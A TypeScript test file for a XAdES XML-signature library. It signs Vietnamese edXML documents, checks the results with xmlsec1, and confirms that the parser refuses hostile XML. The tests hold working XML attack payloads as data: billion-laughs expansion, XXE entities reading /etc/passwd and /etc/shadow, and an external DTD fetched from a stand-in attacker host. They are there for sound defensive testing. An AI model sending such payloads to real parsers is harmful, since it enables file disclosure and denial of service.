import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { spawnSync } from 'node:child_process';
import { signXades, validateFile } from '../../src/sign/index.js';
import { parseXml } from '../../src/sign/xades/parse.js';
import { openLab, save, type Lab } from './fixtures.js';

const EDXML = '<edXML xmlns="urn:vn:edxml"><Header><Code>123/UBND-VP</Code></Header><Subject>Về việc triển khai chữ ký số</Subject></edXML>';

function xmlsec(lab: Lab, path: string): { status: number; out: string } {
  const r = spawnSync('xmlsec1', ['--verify', '--trusted-pem', lab.rootPath, '--untrusted-pem', lab.issuingPath, '--id-attr:Id', 'http://uri.etsi.org/01903/v1.3.2#:SignedProperties', path], { encoding: 'utf8' });
  return { status: r.status ?? -1, out: `${r.stdout}${r.stderr}` };
}

describe('XAdES B-B enveloped', () => {
  let lab: Lab;
  beforeAll(async () => {
    lab = await openLab();
  });
  afterAll(async () => lab?.p.close());

  it('signs with an external ECDSA and RSA signer; xmlsec1 --verify accepts against our root', async () => {
    for (const keyArgs of [undefined, ['-newkey', 'rsa:2048']]) {
      const signer = await lab.signer('/CN=Nguyễn Văn An/O=Bộ Tư pháp/C=VN', { keyArgs });
      const xml = await signXades(EDXML, signer, { signingTime: new Date('2025-03-01T07:00:00Z') });
      expect(xml).toContain('<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>');
      expect(xml).toMatch(/SigningCertificateV2/);
      expect(xml).toMatch(/SigningTime>2025-03-01T07:00:00/);
      const v = xmlsec(lab, save(lab.dir, 'signed.xml', Buffer.from(xml)));
      expect(v.out).toMatch(/^OK/m);
      expect(v.out).toMatch(/SignedInfo References \(ok\/all\): 2\/2/);
      expect(v.status).toBe(0);
      const tampered = xml.replace('123/UBND-VP', '124/UBND-VP');
      const t = xmlsec(lab, save(lab.dir, 'tampered.xml', Buffer.from(tampered)));
      expect(t.status).not.toBe(0);
      expect(t.out).toMatch(/FAIL/);
    }
  });

  it('refuses XML with a DOCTYPE (external entities, billion laughs) and malformed XML', async () => {
    const laughs = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>';
    const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
    for (const bad of [laughs, xxe]) expect(() => parseXml(bad)).toThrow(expect.objectContaining({ code: 'malformed_xml' }));
    expect(() => parseXml('<a><b></a>')).toThrow(expect.objectContaining({ code: 'malformed_xml' }));
  });

  it('validation of hostile XML is a clear FORMAT_FAILURE report in bounded time: billion laughs, external entities and DTDs, deep nesting, millions of elements', async () => {
    const lol = ['<!ENTITY lol0 "lol">', ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`)].join('');
    const signer = await lab.signer('/CN=Đoàn Văn Hùng/O=Bộ Tư pháp/C=VN');
    const signed = (await signXades(EDXML, signer)).replace(/^<\?xml[^>]*>/, '');
    const cases: [string, string, RegExp][] = [
      ['billion laughs', `<?xml version="1.0"?><!DOCTYPE edXML [${lol}]><edXML>&lol9;</edXML>`, /document type declaration is refused/],
      ['an external entity (XXE)', `<!DOCTYPE edXML [<!ENTITY x SYSTEM "file:///etc/passwd">]><edXML>&x;</edXML>`, /document type declaration is refused/],
      ['a parameter entity and an external DTD', `<!DOCTYPE edXML SYSTEM "http://attacker.invalid/x.dtd" [<!ENTITY % p SYSTEM "file:///etc/shadow"> %p;]>${signed}`, /document type declaration is refused/],
      ['a signature nested 100 000 deep', `${'<a>'.repeat(100_000)}${signed}${'</a>'.repeat(100_000)}`, /nested deeper than 256/],
      ['1.5 million elements (15 MB)', `<edXML>${'<b x="1"/>'.repeat(1_500_000)}${signed}</edXML>`, /more than 100000 elements/],
    ];
    for (const [name, xml, message] of cases) {
      // refused by its structure, never expanded or walked whole (a runaway parse is the test's time-out: tests assert no time)
      const r = await validateFile(Buffer.from(xml), { trustAnchors: [lab.root] });
      expect(r.signatures, name).toHaveLength(1);
      expect(r.signatures[0], name).toMatchObject({ indication: 'TOTAL-FAILED', subIndication: 'FORMAT_FAILURE', message: expect.stringMatching(message) });
      expect(JSON.stringify(r), name).not.toMatch(/root:|lollol/);
    }
    // the same document without the hostile wrapping still validates
    expect((await validateFile(Buffer.from(signed), { trustAnchors: [lab.root] })).signatures[0].indication).toBe('TOTAL-PASSED');
  });
});
